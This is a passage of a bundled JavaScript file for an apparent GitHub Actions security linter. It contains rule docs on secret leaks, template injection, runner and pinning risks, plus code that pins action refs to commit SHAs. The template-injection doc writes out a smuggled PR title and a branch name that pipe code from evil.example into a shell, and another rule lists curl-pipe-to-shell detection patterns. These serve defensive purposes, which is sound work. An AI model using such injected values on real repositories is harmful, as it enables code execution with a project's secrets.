`echo \"$SECRET\"` to the log (confidence medium) | masking only hides the exact value: a base64, JSON-escaped or partial copy is printed in clear |\n| a job under `pull_request_target`, `workflow_run`, `issue_comment`... that checks out the pull request's code and reads a stored secret (confidence medium) | the pull request's code (install scripts, test helpers, build files) runs on the same runner as the secret |\n\nNot reported: `secrets.GITHUB_TOKEN` (it is always there), booleans derived from a secret\n(`${{ secrets.X != '' }}`), a literal index (`secrets['NAME']`), `echo` piped into another\ncommand (`echo \"$TOKEN\" | docker login --password-stdin` is the recommended form),\n`::add-mask::`, and writing a secret to an ordinary file (that is how `.npmrc` or a key file is\nconfigured; the file stays on the runner). Secrets in a job-level `env:` are not reported: the\njob is the unit that receives them anyway.\n\n## Why it matters on a payments release path\n\nGitHub sends a job only the secrets its expressions name, and masks them in logs. Both defences\nare defeated by the patterns above: the whole context carries the payment provider's key into a\njob that needed a Slack webhook, a workflow-level `env:` hands the signing password to every\nthird-party action in every job, and an exported or transformed value escapes masking. The\nprivileged-trigger case is the classic \"pwn request\": a fork's pull request changes a test or a\n`package.json` script and reads the secret from the environment or the runner's memory.\n\n## Before\n\n```yaml\nenv:\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\njobs:\n  release:\n    steps:\n      - run: echo \"SIGNING_KEY=${{ secrets.SIGNING_KEY }}\" >> \"$GITHUB_ENV\"\n      - run: ./scripts/sign\n      - uses: some-org/notify@0123456789abcdef0123456789abcdef01234567\n        with:\n          config: ${{ toJSON(secrets) }}\n```\n\n## After\n\n```yaml\njobs:\n  release:\n    steps:\n      - run: ./scripts/sign\n        env:\n          SIGNING_KEY: ${{ secrets.SIGNING_KEY }}\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n      - uses: some-org/notify@0123456789abcdef0123456789abcdef01234567\n        with:\n          webhook: ${{ secrets.SLACK_WEBHOOK }}\n```\n\nFor pull-request code that needs results from a privileged job, split the work: build and test\nthe pull request under `pull_request` (no secrets), upload the results as an artifact, and\nconsume them from a `workflow_run` job that never executes the pull request's code.\n",
    "secrets-inherit": "# secrets-inherit\n\n**Severity:** high when the called workflow is referenced by a tag or branch, medium when it is\npinned to a commit SHA, low when it lives in the same repository (`./.github/workflows/...`) ·\n**Confidence:** high\n\n## What it finds\n\nA job that calls a reusable workflow with `secrets: inherit`.\n\n## Why it matters on a payments release path\n\n`secrets: inherit` gives the called workflow every secret the calling job can read: all\nrepository and organization secrets, and the environment's secrets when the job runs in one. The\ncalled workflow does not have to declare them, so nobody reviewing it sees which credentials it\ntouches, and the day it (or an action inside it) is changed or compromised it can read the\nsigning key, the registry token and the payment provider's API key alike, not just the one it\nwas written for. When the workflow lives in another repository and is referenced by a tag, that\nchange can happen without any review on your side.\n\nNaming the secrets turns the call into a contract: the callee declares `on.workflow_call.secrets`,\nthe caller passes exactly those, and a reviewer sees the grant in the diff.\n\nPeptide cannot tell from the file whether a remote `owner/repo` is your own repository, so a\nremote callee pinned by SHA is reported at medium whoever owns it.\n\n## Before\n\n```yaml\njobs:\n  release:\n    uses: octo-org/workflows/.github/workflows/release.yml@v1\n    secrets: inherit\n```\n\n## After\n\n```yaml\njobs:\n  release:\n    uses: octo-org/workflows/.github/workflows/release.yml@0123456789abcdef0123456789abcdef01234567 # v1.2.0\n    secrets:\n      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n```\n\nand in the called workflow:\n\n```yaml\non:\n  workflow_call:\n    secrets:\n      NPM_TOKEN:\n        required: true\n```\n",
    "self-hosted-pr": "# self-hosted-pr\n\n**Severity:** high under `pull_request` (and review events), where the fork's code runs; medium under `pull_request_target` and `issue_comment`, where the base's code runs on a fork's event · **Confidence:** high for `self-hosted`, medium for labels that GitHub does not host\n\n## What it finds\n\nA job whose `runs-on:` selects a self-hosted runner, in a workflow that a fork's pull request can\ntrigger (`pull_request`, `pull_request_review`, `pull_request_review_comment`,\n`pull_request_target`, `issue_comment`):\n\n- the `self-hosted` label, in a string, a list or `labels:` of a runner group;\n- labels that are neither GitHub-hosted (`ubuntu-*`, `windows-*`, `macos-*`, larger runners\n  named that way) nor an ephemeral hosting service (`buildjet-*`, `namespace-profile-*`,\n  `blacksmith-*`, `depot-*`, `warp-*`, `ubicloud*`), reported with medium confidence;\n- `${{ matrix.os }}` is resolved against the literal matrix values: one self-hosted value is\n  enough.\n\nIt does not report jobs whose `if:` keeps forks out on every branch\n(`github.event.pull_request.head.repo.full_name == github.repository`, `head.repo.fork == false`,\n`github.event_name == 'push'`), runner names computed by other expressions, runner groups without\nlabels, and workflows that only run on `push`, `schedule` or `workflow_dispatch`.\n\n## Why it matters on a payments release path\n\nA self-hosted runner is a machine of yours: it keeps files, credentials and Docker caches between\njobs, and it sits in a network that often reaches internal registries, databases or cloud\nmetadata endpoints. Under `pull_request` anyone who opens a pull request runs their code on it\n(approval for first-time contributors is a click away from being waived). A job that runs there\nlater, the release build, inherits whatever they left behind.\n\n## Before\n\n```yaml\non: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make test\n```\n\n## After\n\n```yaml\non: pull_request\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make test\n  test-internal:\n    # only branches of this repository reach the internal runners\n    if: github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make integration-test\n```\n\nIf pull requests must use your hardware, use ephemeral runners (one job per fresh VM) in an\nisolated network.\n",
    "spoofable-bot-check": "# spoofable-bot-check\n\n**Severity:** high · **Confidence:** high when the bot check alone decides the condition, medium when it is one of several conditions\n\n## What it finds\n\nA job or step `if:` in a workflow triggered by `pull_request_target` or `workflow_run` that\ntrusts the actor to be a bot:\n\n- `github.actor == 'dependabot[bot]'`, `github.triggering_actor == 'renovate[bot]'`,\n  `github.event.sender.login == '...[bot]'`;\n- `github.actor_id == 49699333` and other known bot ids;\n- `contains(fromJSON('[\"dependabot[bot]\", ...]'), github.actor)`,\n  `startsWith(github.actor, 'dependabot')`.\n\nConditions are parsed, with or without `${{ }}`. It does not report conditions that also pin the\npull request's author (`github.event.pull_request.user.login == 'dependabot[bot]'`) or keep forks\nout (`github.event.pull_request.head.repo.full_name == github.repository`) on every branch, checks\nthat exclude a bot (`!=`), and workflows on `pull_request`, where GitHub, not the condition,\ndecides the token and secrets.\n\n## Why it matters on a payments release path\n\n`github.actor` is whoever caused the latest event, not who wrote the pull request. A fork's\nauthor can open a pull request and then get a bot to act on it (Dependabot rebasing or updating\ntheir branch in their own fork), and the next `pull_request_target` run sees `dependabot[bot]`\nas its actor. An \"auto-approve and merge Dependabot updates\" job then approves and merges the\nattacker's code, or runs it with the base repository's secrets.\n\n## Before\n\n```yaml\non: pull_request_target\njobs:\n  automerge:\n    if: github.actor == 'dependabot[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr merge --auto --squash \"$PR_URL\"\n```\n\n## After\n\n```yaml\non: pull_request_target\njobs:\n  automerge:\n    if: >-\n      github.event.pull_request.user.login == 'dependabot[bot]' &&\n      github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr merge --auto --squash \"$PR_URL\"\n```\n\nUnder `workflow_run` there is no pull request object in the event: require\n`github.event.workflow_run.head_repository.full_name == github.repository` and look the pull\nrequest's author up through the API rather than trusting the actor.\n",
    "template-injection": "# template-injection\n\n**Severity:** critical under `pull_request_target`, `issue_comment`, `issues`, `discussion*`, `workflow_run`; high for event text in a reusable workflow or composite action; medium for `push` commit text and free-text inputs; low under `pull_request` · **Confidence:** high for event text, medium for inputs and values followed through outputs, low for outputs of unknown content\n\n## What it finds\n\nA `${{ }}` expression inside a `run:` script (in a workflow or a composite action), in\n`actions/github-script`'s `script:`, or in another action input that is evaluated as code\n(`azure/cli` `inlineScript`, `appleboy/ssh-action` `script`, ...), whose value an attacker can\nchoose:\n\n- event text from a table of attacker-controlled context paths: issue, pull request and\n  discussion titles and bodies, comment and review bodies, head branch names\n  (`github.head_ref`, `pull_request.head.ref`, `head.label`, `workflow_run.head_branch`), commit\n  messages and author names and emails (`commits[*]`, `head_commit`, `workflow_run.head_commit`),\n  wiki page names, and whole objects that contain them (`toJSON(github.event)`);\n- `inputs.*` / `github.event.inputs.*` of type string (boolean, number, choice and environment\n  inputs are validated by GitHub and are not reported);\n- values that carry the above: an `env:` entry, a `$GITHUB_ENV` write of an earlier step, a step\n  output written from it (`echo \"title=$TITLE\" >> \"$GITHUB_OUTPUT\"`), a job output, a\n  `github-script` result. Outputs whose content cannot be seen (an unknown action's) are reported\n  with low confidence, and only under privileged triggers.\n\nIt does not report numbers, SHAs, ids, `github.actor`, logins and repository names (GitHub\nrestricts their characters), `github.ref_name`, secrets, event fields the workflow's triggers do\nnot fill, expressions used only in comparisons or `contains()` (they yield booleans), and values\npassed through `env:` and read as `\"$VAR\"`.\n\n## Why it matters on a payments release path\n\nGitHub pastes the expression's text into the script before the shell sees it. A pull request\ntitled `a\"; curl -sSf https://evil.example/x | sh; echo \"` turns `echo \"${{ github.event.pull_request.title }}\"`\ninto three commands, run with the job's `GITHUB_TOKEN` and secrets. Under `pull_request_target`,\n`issue_comment` or `workflow_run` that token can write to the repository, and the secrets are the\nbase repository's: signing keys, registry credentials, deploy tokens. A branch name is enough\n(`$(curl${IFS}evil.example|sh)` is a valid one).\n\n## Before\n\n```yaml\non: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"Thanks for ${{ github.event.pull_request.title }} on ${{ github.head_ref }}\"\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: console.log(\"${{ github.event.pull_request.body }}\")\n```\n\n## After\n\n```yaml\non: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n          HEAD_REF: ${{ github.head_ref }}\n        run: echo \"Thanks for $TITLE on $HEAD_REF\"\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        env:\n          BODY: ${{ github.event.pull_request.body }}\n        with:\n          script: console.log(process.env.BODY)\n```\n\nThe shell expands `\"$TITLE\"` as data, never as code. Keep the double quotes.\n",
    "unpinned-image": "# unpinned-image\n\n**Severity:** high for `:latest` or no tag, medium for any other tag · **Confidence:** high\n\n## What it finds\n\nA container image that is not pinned by digest (`@sha256:<64 hex>`) in:\n\n- a job's `container:` (string or `image:`),\n- a job's `services.<name>.image`,\n- a step's `uses: docker://...` (in workflows and composite actions),\n- a Docker action's `runs.image: docker://...`.\n\nAn image given as `${{ matrix.key }}` is checked against each literal value of that matrix key\n(including `include:` entries). Other expressions cannot be known from the file and are not\nreported. `runs.image: Dockerfile` (an image built from the action's own source) is fine.\n\n## Why it matters on a payments release path\n\nThe job's container runs every step of the job: your checkout, your build, your signing key.\nA service container sits on the same network. A tag is a name the image's publisher (or anyone\nwho takes over their registry account) can point at new bytes at any time, and the next run\npulls those bytes with no review on your side. `latest` and untagged images move on every\nupstream push; version tags move less often but still move (rebuilds, mistakes, compromises).\nA digest is the hash of the image manifest: what you reviewed is what runs, and the audit trail\nof a build can name exactly which toolchain produced a release.\n\n## Before\n\n```yaml\njobs:\n  build:\n    runs-on: ubuntu-latest\n    container: golang:1.23\n    services:\n      postgres:\n        image: postgres:latest\n    steps:\n      - uses: docker://hadolint/hadolint\n```\n\n## After\n\n```yaml\njobs:\n  build:\n    runs-on: ubuntu-latest\n    container: golang:1.23@sha256:<digest>\n    services:\n      postgres:\n        image: postgres:16.4@sha256:<digest>\n    steps:\n      - uses: docker://hadolint/hadolint:v2.12.0@sha256:<digest>\n```\n\nKeep the tag in front of the digest: it documents the version, and Dependabot (`docker`\necosystem) and Renovate update both together. Get the digest with\n`docker buildx imagetools inspect <image>:<tag>` or `crane digest <image>:<tag>`.\n",
    "unpinned-uses": "# unpinned-uses\n\n**Severity:** high (medium for `actions/*` and `github/*`) · **Confidence:** high · **Fix:** `peptide audit --fix`\n\n## What it finds\n\nA step `uses:` an action, or a job `uses:` a reusable workflow, by a tag (`@v4`), a branch\n(`@main`) or no ref at all, instead of a full 40-character commit SHA.\n\n## Why it matters on a payments release path\n\nA tag or branch is a pointer that the action's owner, or whoever takes over their account, can\nmove to new code at any time, and the next run of your release job executes it with your\nsecrets and your `GITHUB_TOKEN`. In March 2025 every tag of `tj-actions/changed-files` was\nrepointed to a commit that dumped runner memory, secrets included, into public logs. A commit\nSHA cannot be moved: what your reviewer read is what runs. For an auditor, a SHA also answers\n\"which code ran in the build that shipped\" without trusting a third party's history.\n\n## Before\n\n```yaml\nsteps:\n  - uses: actions/checkout@v4\n  - uses: docker/build-push-action@master\n```\n\n## After\n\n```yaml\nsteps:\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n  - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83 # v6.18.0\n```\n\n`peptide audit --fix` resolves each tag to its commit through the GitHub API (`GITHUB_API_URL`,\ntoken from `GITHUB_TOKEN`) and writes the SHA with the tag as a comment, keeping the rest of the\nfile as it was. Keep the comment: Dependabot and Renovate read it to propose updates.\n",
    "unprotected-deploy": "# unprotected-deploy\n\n**Severity:** high for deploys that change a running environment (`kubectl`, `helm`,\n`terraform apply`, cloud deploy actions...) and for environments on triggers outsiders can fire;\nmedium for package publishes, image pushes and releases; low for websites (GitHub Pages, docs) ·\n**Confidence:** high (medium when an expression decides whether the step ships, as in\n`push: ${{ github.ref == 'refs/heads/main' }}`)\n\n## What it finds\n\n1. A job that ships something and has no `environment:`.\n2. A job with an `environment:` in a workflow triggered by `pull_request_target`,\n   `issue_comment`, `workflow_run`, `issues` or `discussion*`, unless its `if:` keeps it off those\n   events.\n\n\"Ships\" is decided by one table, shared with [policy-violation](policy-violation.md)\n(`packages/workflow/src/deploy/detect.ts`):\n\n| kind | commands in `run:` | actions |\n|---|---|---|\n| deploy | `kubectl apply/create/replace/patch/set image/rollout restart`, `helm upgrade/install`, `terraform`/`tofu`/`terragrunt apply/destroy`, `pulumi up`, `cdk`/`sam`/`serverless deploy`, `aws ecs update-service`, `aws lambda update-function-code`, `aws cloudformation deploy`, `aws s3 sync/cp` to `s3://`, `gcloud run/app/functions deploy`, `az webapp/functionapp deploy`, `az deployment ... create`, `firebase`/`netlify`/`fly`/`wrangler`/`vercel deploy`, `heroku container:release` | `aws-actions/amazon-ecs-deploy-task-definition`, `aws-actions/aws-cloudformation-github-deploy`, `google-github-actions/deploy-*`, `azure/*-deploy`, `azure/webapps-deploy`, `azure/functions-action`, `cloudflare/wrangler-action`, `cloudflare/pages-action`, Vercel/Netlify/Fly/Serverless/Heroku actions, `appleboy/ssh-action`, `appleboy/scp-action`, rsync/FTP/SSH deploy actions |\n| publish | `npm`/`pnpm`/`yarn`/`lerna`/`changeset publish`, `twine upload`, `poetry`/`uv`/`hatch`/`flit`/`pdm publish`, `maturin publish`, `cargo publish`, `gem push`, `nuget push`, `mvn deploy`, `gradle publish*`, `helm push`, `vsce`/`ovsx publish` | `pypa/gh-action-pypi-publish`, `JS-DevTools/npm-publish`, `changesets/action` with `publish:` |\n| image-push | `docker`/`podman`/`buildah push`, `docker buildx build ... --push`, `docker manifest push`, `crane push/copy/tag`, `skopeo copy ... docker://`, `oras push`, `ko build/publish/resolve/apply` | `docker/build-push-action` and `docker/bake-action` with `push: true` (or an expression), `redhat-actions/push-to-registry` |\n| release | `gh release create/upload/edit`, `goreleaser release`, `jreleaser release` | `softprops/action-gh-release`, `ncipollo/release-action`, `actions/create-release`, `svenstaro/upload-release-action`, `goreleaser/goreleaser-action` with `release`, `helm/chart-releaser-action` |\n| pages | `mike deploy --push` | `actions/deploy-pages`, `peaceiris/actions-gh-pages`, `JamesIves/github-pages-deploy-action` |\n\nNot counted as shipping: dry runs (`--dry-run`, `goreleaser --snapshot`, `ko --push=false`),\ncommands inside `echo`, `npm run publish-docs`, and anything that targets a throwaway registry\nor cluster of the job itself: `localhost`, `registry.local`, `kind.local`, `ko.local`, `ttl.sh`,\nand `kubectl`/`helm` in a job that creates a kind, k3d, k3s or minikube cluster.\n\nNot reported:\n\n- workflows triggered only by `pull_request`/`merge_group`: fork runs get no secrets, and\n  same-repository runs are previews;\n- jobs that call a reusable workflow (the called workflow's jobs carry the environment);\n- in a workflow triggered only by `workflow_call`, publishes, pushes and releases (the callers'\n  triggers and tag rules gate those); infrastructure deploys there are still reported, and the\n  fix is an `environment: ${{ inputs.environment }}` the caller chooses.\n\n## Why it matters on a payments release path\n\nA GitHub environment is the one place the platform lets you put a human, a branch rule or a\nwait timer between a commit and production, and the only way to keep deploy credentials out of\nevery other job (environment secrets, and an OIDC `sub` claim naming the environment that cloud\ntrust policies can require). Without one, anyone who can push to a branch the workflow runs on,\nor who compromises one action in the job, ships. On `pull_request_target`, `issue_comment` and\n`workflow_run` the run happens on the default branch, so an environment restricted to `main`\nlets it through for whoever opened the pull request or wrote the comment.\n\n## Before\n\n```yaml\non:\n  push:\n    branches: [main]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: kubectl apply -f k8s/\n```\n\n## After\n\n```yaml\non:\n  push:\n    branches: [main]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment: production   # Settings → Environments: required reviewers, deployment branches: main\n    permissions:\n      id-token: write\n      contents: read\n    steps:\n      - run: kubectl apply -f k8s/\n```\n",
    "unverified-download": "# unverified-download\n\n**Severity:** high in jobs that ship (publish, sign, deploy, or feed such jobs), medium elsewhere · **Confidence:** high for piping into a shell and for running a downloaded file; medium for installs of binaries and archives and for package installs from URLs\n\n## What it finds\n\nIn a `run:` script (and the shell-script inputs of actions such as `addnab/docker-run-action`\n`run` or `azure/cli` `inlineScript`):\n\n- a download piped into an interpreter: `curl ... | sh`, `wget -qO- ... | sudo bash`,\n  `bash <(curl ...)`, `sh -c \"$(curl ...)\"`, `curl ... | php`, `iwr ... | iex`;\n- a file downloaded and then run or installed with no checksum or signature check anywhere in\n  the same script: `./file`, `bash file`, `chmod +x file`, `dpkg -i`, `apt install ./x.deb`,\n  `rpm -i`, `installer -pkg`, `msiexec`, a download straight into `/usr/local/bin`, an archive\n  unpacked and its contents made executable or moved into a bin directory;\n- `pip install https://...` or `git+https://...` without a `#sha256=` or commit, and\n  `npm install https://....tgz`.\n\nA `sha256sum`/`shasum`/`Get-FileHash` check, `gpg --verify`, `cosign verify-blob`,\n`gh attestation verify`, `slsa-verifier` or `minisign -V` in the same script counts as\nverification. URLs that name a commit SHA are immutable and not reported.\n\nIt does not report downloads that are only read (JSON, test fixtures), `go install pkg@version`\n(the Go checksum database verifies module content), packages from registries, and checks done\nin another step (the rule cannot see that the checked file is the one that runs).\n\n## Why it matters on a payments release path\n\n`curl | sh` runs whatever the server returns at that moment, with the job's token and secrets. A\nbranch that moves (`raw.githubusercontent.com/.../main/install.sh`), a compromised release, an\nexpired domain or a CDN incident changes what your build runs without a change to your\nrepository, and nothing records which script ran. A pinned checksum makes the download as\nreviewable as a pinned action: what was checked is what runs.\n\n## Before\n\n```yaml\nsteps:\n  - run: curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin\n```\n\n## After\n\n```yaml\nsteps:\n  - run: |\n      curl -sSfLO https://github.com/anchore/syft/releases/download/v1.27.1/syft_1.27.1_linux_amd64.tar.gz\n      echo \"<sha256 from the release's checksums file>  syft_1.27.1_linux_amd64.tar.gz\" | sha256sum -c -\n      tar -xzf syft_1.27.1_linux_amd64.tar.gz -C /usr/local/bin syft\n```\n\nOr use a pinned action that verifies what it installs.\n"
};
//# sourceMappingURL=rule-docs.js.map
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./packages/core/dist/index.js + 4 modules
var dist = __webpack_require__(57775);
;// CONCATENATED MODULE: ./packages/workflow/dist/policy/load.js




const DEFAULT_POLICY_FILE = ".github/peptide.yml";
/**
 * Loads a policy file, relative to `cwd`; messages name it as given. A file named by the user
 * must exist; the default one is optional.
 */
async function loadPolicy(file, options) {
    const name = file ?? DEFAULT_POLICY_FILE;
    const absolute = external_node_path_.resolve(options.cwd ?? process.cwd(), name);
    if (!(0,external_node_fs_.existsSync)(absolute)) {
        if (options.explicit)
            throw new dist/* InputError */.dz("INPUT_NOT_FOUND", `${name}: policy file not found; check the path or create it`);
        return config/* EMPTY_POLICY */.X;
    }
    return (0,config/* parsePolicy */.O)(name, await (0,dist/* readTextFile */.Gu)(absolute, { maxBytes: 256 * 1024 }));
}
//# sourceMappingURL=load.js.map
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var yaml_dist = __webpack_require__(38815);
;// CONCATENATED MODULE: ./packages/workflow/dist/fix/pin.js






/**
 * Actions that must be referenced by tag: the SLSA generator's reusable workflows check the ref
 * they were called with and fail on a SHA (slsa-framework/slsa-github-generator README).
 */
const TAG_ONLY_ACTIONS = new Set(["slsa-framework/slsa-github-generator"]);
const FATAL_CODES = new Set(["AUTH_FAILED", "NETWORK_UNREACHABLE", "RATE_LIMITED"]);
function pinKey(action, ref) {
    return `${action.toLowerCase()}@${ref}`;
}
/** The unpinned (owner/repo, ref) pairs used by steps and reusable-workflow calls, once each. */
function collectPins(targets) {
    const pins = new Map();
    const add = (node) => {
        const request = unpinnedRequest(node);
        if (request && !pins.has(pinKey(request.action, request.ref)))
            pins.set(pinKey(request.action, request.ref), request);
    };
    for (const target of targets) {
        for (const { step } of (0,walk/* allSteps */.Bd)(target))
            add(step.uses);
        if (target.kind === "workflow")
            for (const job of target.jobs)
                add(job.uses);
    }
    return [...pins.values()];
}
/** The pairs of `unpinned-uses` findings that carry a pin fix (which respects config and ignore comments). */
function pinsFromFindings(findings) {
    const pins = new Map();
    for (const f of findings) {
        if (f.fix?.kind !== "pin" || TAG_ONLY_ACTIONS.has(f.fix.action.toLowerCase()))
            continue;
        pins.set(pinKey(f.fix.action, f.fix.ref), { action: f.fix.action, ref: f.fix.ref });
    }
    return [...pins.values()];
}
function unpinnedRequest(node) {
    if (!node || typeof node.value !== "string")
        return undefined;
    const uses = (0,dist_uses/* parseUses */.Ap)(node.value);
    if (uses.kind !== "remote" || !uses.owner || !uses.repo || !uses.ref || (0,dist_uses/* isShaRef */.AU)(uses.ref) || uses.ref.includes("${{"))
        return undefined;
    const action = `${uses.owner}/${uses.repo}`;
    return TAG_ONLY_ACTIONS.has(action.toLowerCase()) ? undefined : { action, ref: uses.ref };
}
/**
 * Resolves each pair to a commit SHA: the tag (annotated tags dereferenced), else the branch,
 * else an abbreviated SHA. A pair that fails is reported in `errors` without losing the others.
 */
async function resolvePins(pairs, options = {}) {
    const api = new RefApi(options);
    const result = { resolved: [], errors: [], untried: [] };
    const queue = [...pairs];
    const worker = async () => {
        for (let pair = queue.shift(); pair; pair = queue.shift()) {
            if (result.fatal) {
                result.untried.push(pair);
                continue;
            }
            try {
                result.resolved.push({ ...pair, ...(await api.resolve(pair)) });
            }
            catch (err) {
                if (err instanceof dist/* HttpError */.j$ && FATAL_CODES.has(err.code)) {
                    result.fatal ??= err;
                    result.untried.push(pair);
                }
                else {
                    result.errors.push({ ...pair, code: (0,dist/* isPeptideError */.UR)(err) ? err.code : "ERROR", message: `${pair.action}@${pair.ref}: ${(0,dist/* errorMessage */.gJ)(err)}` });
                }
            }
        }
    };
    const workers = Math.max(1, Math.min(options.concurrency ?? 4, pairs.length));
    await Promise.all(Array.from({ length: workers }, worker));
    return result;
}
/** The three documented lookups (refs, tags, commits) behind fetchWithRetry. */
class RefApi {
    options;
    base;
    headers;
    constructor(options) {
        this.options = options;
        this.base = (options.apiUrl ?? "https://api.github.com").replace(/\/+$/, "");
        this.headers = { accept: "application/vnd.github+json", "x-github-api-version": "2022-11-28", "user-agent": "peptide" };
        if (options.token)
            this.headers.authorization = `Bearer ${options.token}`;
    }
    async resolve(pair) {
        const [owner = "", repo = ""] = pair.action.split("/");
        const repoPath = `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
        const ref = pair.ref.split("/").map(encodeURIComponent).join("/");
        // https://docs.github.com/en/rest/git/refs#get-a-reference
        const tag = await this.get(`${repoPath}/git/ref/tags/${ref}`);
        if (tag !== undefined) {
            const object = gitObject(tag);
            if (object.type === "commit")
                return { sha: object.sha, kind: "tag" };
            return { sha: await this.dereference(repoPath, object), kind: "annotated-tag" };
        }
        const branch = await this.get(`${repoPath}/git/ref/heads/${ref}`);
        if (branch !== undefined)
            return { sha: gitObject(branch).sha, kind: "branch" };
        if (/^[0-9a-f]{7,39}$/.test(pair.ref)) {
            // https://docs.github.com/en/rest/commits/commits#get-a-commit (422 when no commit matches)
            const commit = await this.get(`${repoPath}/commits/${ref}`, [404, 422]);
            if (commit !== undefined)
                return { sha: shaOf(commit), kind: "commit" };
        }
        throw new dist/* HttpError */.j$("NOT_FOUND", `no tag or branch "${pair.ref}" in ${pair.action} (or the repository does not exist, or the token cannot read it)`, 404);
    }
    /** https://docs.github.com/en/rest/git/tags#get-a-tag: a tag object points at a commit, or at another tag. */
    async dereference(repoPath, object) {
        let current = object;
        for (let depth = 0; depth < 5 && current.type === "tag"; depth++) {
            const tag = await this.get(`${repoPath}/git/tags/${current.sha}`);
            if (tag === undefined)
                throw new dist/* HttpError */.j$("NOT_FOUND", `tag object ${current.sha} not found`, 404);
            current = gitObject(tag);
        }
        if (current.type !== "commit")
            throw new dist/* HttpError */.j$("HTTP_ERROR", `tag points at a ${current.type}, not a commit`);
        return current.sha;
    }
    /** The JSON body, or undefined for the "does not exist" statuses. */
    async get(path, absent = [404]) {
        try {
            const response = await (0,dist/* fetchWithRetry */.J5)(`${this.base}${path}`, { headers: this.headers }, { ...this.options.retry, fetch: this.options.fetch, tokenEnv: this.options.tokenEnv ?? "GITHUB_TOKEN" });
            return (await response.json());
        }
        catch (err) {
            if (err instanceof dist/* HttpError */.j$ && err.status !== undefined && absent.includes(err.status))
                return undefined;
            throw err;
        }
    }
}
function gitObject(body) {
    const object = typeof body === "object" && body !== null && "object" in body ? body.object : undefined;
    if (typeof object === "object" && object !== null && "type" in object && "sha" in object && typeof object.type === "string" && typeof object.sha === "string" && (0,dist_uses/* isShaRef */.AU)(object.sha)) {
        return { type: object.type, sha: object.sha };
    }
    throw new dist/* HttpError */.j$("HTTP_ERROR", "unexpected response: no object.type and object.sha");
}
function shaOf(body) {
    if (typeof body === "object" && body !== null && "sha" in body && typeof body.sha === "string" && (0,dist_uses/* isShaRef */.AU)(body.sha))
        return body.sha;
    throw new dist/* HttpError */.j$("HTTP_ERROR", "unexpected response: no commit sha");
}
/**
 * Rewrites each `uses: owner/repo[/path]@ref` whose pair is resolved as `...@<sha> # ref`, keeping
 * quotes, indentation, line endings and any comment already there (after the ref comment).
 * Only real `uses:` keys of steps and jobs are touched, never text inside `run:` scripts.
 * Idempotent. `lines`, when given, limits the edit to those lines (e.g. the findings' lines).
 */
function planPins(text, resolved, options = {}) {
    const plan = { text, edits: [], skipped: [] };
    const shas = new Map(resolved.map((r) => [pinKey(r.action, r.ref), r.sha]));
    if (shas.size === 0)
        return plan;
    const source = new model_source/* SourceFile */.sC("<pin>", text);
    if (source.doc.errors.length > 0)
        return plan;
    const splices = [];
    for (const node of usesNodes(source)) {
        const request = unpinnedRequest(node);
        const sha = request && shas.get(pinKey(request.action, request.ref));
        if (!request || !sha)
            continue;
        const line = source.positionOf(node).line;
        if (options.lines && !options.lines.has(line))
            continue;
        const splice = spliceFor(text, node, request.ref, sha);
        if (typeof splice === "string")
            plan.skipped.push({ line, reason: splice });
        else {
            splices.push(splice);
            plan.edits.push({ line, action: request.action, ref: request.ref, sha });
        }
    }
    for (const s of splices.sort((a, b) => b.start - a.start))
        plan.text = plan.text.slice(0, s.start) + s.text + plan.text.slice(s.end);
    return plan;
}
/** `planPins(...).text`. */
function applyPins(text, resolved, options = {}) {
    return planPins(text, resolved, options).text;
}
function usesNodes(source) {
    let target;
    try {
        target = (0,model_source/* pairOf */.cF)(source.root, "runs") && !(0,model_source/* pairOf */.cF)(source.root, "jobs") ? (0,build/* buildAction */.fL)(source) : (0,build/* buildWorkflow */.aL)(source);
    }
    catch (err) {
        if (err instanceof build/* ModelError */.me)
            return [];
        throw err;
    }
    const nodes = [];
    for (const { step } of (0,walk/* allSteps */.Bd)(target))
        if (step.uses)
            nodes.push(step.uses);
    if (target.kind === "workflow")
        for (const job of target.jobs)
            if (job.uses)
                nodes.push(job.uses);
    return nodes;
}
/** The replacement for the value and the rest of its line, or why it cannot be edited. */
function spliceFor(text, node, ref, sha) {
    const range = node.range;
    if (!range)
        return "no source position";
    const [start, valueEnd] = range;
    const value = text.slice(start, valueEnd);
    if (value.includes("\n") || value.includes("\r"))
        return "the value spans lines";
    if (node.type !== yaml_dist.Scalar.PLAIN && node.type !== yaml_dist.Scalar.QUOTE_DOUBLE && node.type !== yaml_dist.Scalar.QUOTE_SINGLE)
        return "block scalar";
    const quote = node.type === yaml_dist.Scalar.PLAIN ? "" : value[0] ?? "";
    const inner = quote ? value.slice(1, -1) : value;
    if (inner !== node.value)
        return "escaped characters in the value";
    const suffix = `@${ref}`;
    if (!inner.endsWith(suffix))
